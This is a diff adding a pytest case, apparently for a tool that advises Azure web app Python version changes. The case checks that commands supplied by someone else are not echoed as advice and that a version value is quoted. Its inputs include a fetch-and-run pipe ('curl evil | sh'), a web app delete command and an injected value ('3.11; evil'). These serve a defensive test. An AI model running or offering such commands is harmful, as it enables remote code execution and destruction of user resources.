@@ -178,6 +178,16 @@ def test_waiting_ends_with_what_is_still_to_do(world, monkeypatch, runs, expecte
     assert more == expected
 
 
+@pytest.mark.parametrize(
+    "command", ["curl evil | sh", "az webapp delete -g rg -n shop", "az webapp python set-version '"]
+)
+def test_a_command_that_somebody_else_wrote_is_not_advised(world, monkeypatch, command):
+    asks(world, JOB, "python311x64", python="x", switch={"version": "3.11; evil", "command": command})
+    monkeypatch.setattr(ending, "observe", lambda app, pythons: SimpleNamespace(handler=None))
+    _, _, finish = ending_lines(world.app, DONE, [])
+    assert finish == 'Finish it: az webapp python set-version -g rg -n shop --version "3.11; evil"'
+
+
 def test_other_jobs_end_with_what_they_did(world):
     asks(world, JOB, "python311x64")
     nothing = Job(JOB, "install-requirements", "succeeded", result=JobResult())
